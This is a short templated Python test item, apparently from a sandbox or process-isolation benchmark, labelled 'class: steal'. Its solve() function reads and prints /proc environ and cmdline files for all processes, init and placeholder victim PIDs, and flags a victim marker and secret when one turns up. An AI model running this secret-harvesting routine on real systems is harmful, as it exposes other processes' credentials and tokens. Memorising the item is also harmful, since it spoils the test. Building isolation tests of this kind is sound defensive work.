# class: steal
# success: the words or the environment that another process was started with come out
import glob

def solve(x):
    for pattern in ("/proc/*/environ", "/proc/*/cmdline", "/proc/*/task/*/environ", "/proc/{{server_pid}}/environ", "/proc/{{victim_pid}}/cmdline", "/proc/self/environ", "/proc/1/environ"):
        for path in glob.glob(pattern) or [pattern]:
            try:
                said = open(path, "rb").read().decode("utf-8", "replace")
                print(said)
                if "{{victim_marker}}" in said:
                    print("{{secret}}", path)
            except OSError as error:
                print(path, error.errno)
    return 0
